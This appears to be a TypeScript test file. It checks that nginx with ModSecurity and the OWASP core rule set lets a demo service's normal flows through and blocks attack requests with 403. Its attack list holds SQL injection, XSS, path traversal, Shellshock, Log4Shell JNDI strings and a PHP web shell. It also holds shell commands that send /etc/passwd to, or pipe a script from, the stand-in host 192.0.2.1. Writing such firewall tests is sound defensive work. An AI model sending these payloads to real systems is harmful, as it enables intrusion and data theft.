// The variant with ModSecurity and the OWASP core rule set: what the demo does goes through, attacks end at the door.
import { randomBytes } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { assertFlows, signUp } from '../fixtures/flows.ts'
import { HOST, noModSecurity, startNginx } from '../fixtures/nginx.ts'
import { buildServer, startServer } from '../fixtures/process.ts'
import type { Sent } from '../fixtures/nginx.ts'

const directory = t.testdir({ build: {}, data: {}, nginx: {} })
const administrator = { username: 'root', password: 'a lamp beside the harbour' }
t.setTimeout(300_000)

const json = { 'content-type': 'application/json' }
const form = { 'content-type': 'application/x-www-form-urlencoded' }
const query = (text: string): Sent => ({ path: `/items?q=${encodeURIComponent(text)}` })
const header = (name: string, value: string): Sent => ({ path: '/items', headers: { [name]: value } })
const body = (text: string): Sent => ({ method: 'POST', path: '/items', headers: json, body: JSON.stringify({ title: text }) })
/** With the sign that would look like a template of ours. */
const jndi = (text: string): string => text.replaceAll('$.', '$$')

const attacks: [string, Sent][] = [
  ['SQL: a condition that is always true', query("1' OR '1'='1")],
  ['SQL: union', query('1 UNION SELECT username, password FROM users--')],
  ['SQL: stacked statements', query("'; DROP TABLE users;--")],
  ['SQL: a delay', query("1' AND SLEEP(5)#")],
  ['SQL in a form', { method: 'POST', path: '/token', headers: form, body: new URLSearchParams({ grant_type: 'password', username: "admin' OR 1=1--", password: 'x' }).toString() }],
  ['SQL in JSON', body("x' UNION ALL SELECT NULL,NULL--")],
  ['SQL in a name to log in with', { method: 'POST', path: '/session', headers: json, body: JSON.stringify({ username: "' OR '1'='1", password: 'x' }) }],
  ['script in the query', query('<script>alert(1)</script>')],
  ['script by an event handler', query('<img src=x onerror=alert(1)>')],
  ['script in JSON', body('<svg/onload=alert(document.cookie)>')],
  ['script in the path', { path: `/items/${encodeURIComponent('<script>alert(1)</script>')}` }],
  ['script in Referer', header('referer', 'https://example.com/<script>alert(1)</script>')],
  ['a path upwards', { path: '/docs/static/css/img/..%2f..%2f..%2fetc%2fpasswd' }],
  ['a path upwards, in the query', query('../../../../etc/passwd')],
  ['a file of the system', query('/etc/shadow')],
  ['a file that deployments forget: .env', { path: '/.env' }],
  ['a file that deployments forget: .git', { path: '/.git/config' }],
  ['a shell command', query('; cat /etc/passwd | nc 192.0.2.1 4444')],
  ['a shell command, substituted', query('$(curl http://192.0.2.1/x.sh|sh)')],
  ['Shellshock', header('user-agent', '() { :; }; /bin/bash -c "id"')],
  ['Log4Shell', header('user-agent', jndi('$.{jndi:ldap://192.0.2.1/a}'))],
  ['Log4Shell in a header of any name', header('x-api-version', jndi('$.{jndi:ldap://192.0.2.1/a}'))],
  ['Log4Shell in JSON', body(jndi('$.{$.{lower:j}ndi:$.{lower:l}dap://192.0.2.1/a}'))],
  ['JavaScript for Node', query("require('child_process').exec('id')")],
  ['PHP', query('<?php system($_GET["c"]); ?>')],
  ['a file from elsewhere', query('http://192.0.2.1/shell.txt?')],
  ['a header by line break', { path: '/items?q=x%0d%0aSet-Cookie:%20a=b' }],
  ['a scanner: sqlmap', header('user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)')],
  ['a scanner: nikto', header('user-agent', 'Mozilla/5.00 (Nikto/2.1.6)')],
  ['a scanner: Nmap', header('user-agent', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)')],
  ['a method that nobody has', { method: 'PROPFIND', path: '/items' }],
  ['a type that nobody reads', header('content-type', 'application/x-java-serialized-object')]
]

t.test('ModSecurity with the core rule set', { skip: noModSecurity }, async (t) => {
  const server = await buildServer(join(directory, 'build'))
  const keyFile = join(directory, 'token-key')
  writeFileSync(keyFile, randomBytes(32).toString('base64'), { mode: 0o600 })
  const demo = await startServer(server, {
    NODE_ENV: 'production', LOG_LEVEL: 'info', PUBLIC_URL: `https://${HOST}`, TRUSTED_PROXIES: '127.0.0.1', DOCS: 'admin', TOKEN_KEY_FILE: keyFile,
    DATA_DIR: join(directory, 'data'), ADMIN_USERNAME: administrator.username, ADMIN_PASSWORD: administrator.password
  })
  t.teardown(() => demo.child.kill('SIGKILL'))
  const nginx = await startNginx(t, join(directory, 'nginx'), { servers: [new URL(demo.url).host], modSecurity: true })

  await t.test('what the demo does goes through', async (t) => { await assertFlows(t, nginx.send, administrator) })
  await t.test('and no secret is in a log', async (t) => {
    t.match(nginx.errors(), /\[notice\]/, 'at a level at which rules tell what they matched')
    t.notMatch(nginx.errors(), /ModSecurity: /, 'none matched anything')
  })

  const { token } = await signUp(nginx.send)
  for (const [index, [title, sent]] of attacks.entries()) {
    await t.test(`${title}: 403 at the door`, async (t) => {
      const from = `127.0.2.${String(index + 1)}`
      const { status } = await nginx.send({ ...sent, from, headers: { ...token, ...sent.headers } })
      t.equal(status, 403)
      t.match(await nginx.logged(({ client }) => client === from), { status: 403, upstream: '' }, 'nobody was asked')
    })
  }
  await t.test('a body that cannot be read: 400 at the door', async (t) => {
    const from = '127.0.2.250'
    t.equal((await nginx.send({ method: 'POST', path: '/items', from, headers: { ...token, ...json }, body: '{"title": ' })).status, 400)
    t.match(await nginx.logged(({ client }) => client === from), { upstream: '' })
  })
  await t.test('the service saw none of it, and goes on', async (t) => {
    const from = '127.0.3.1'
    t.equal((await nginx.send({ path: '/items', from, headers: token })).status, 200)
    while (!demo.stdout().includes(from)) await new Promise((resolve) => setTimeout(resolve, 10))
    t.notMatch(demo.stdout(), /127\.0\.2\./)
    t.match(nginx.errors(), /Matched Data: /, 'a rule that matches writes what it matched')
  })
})
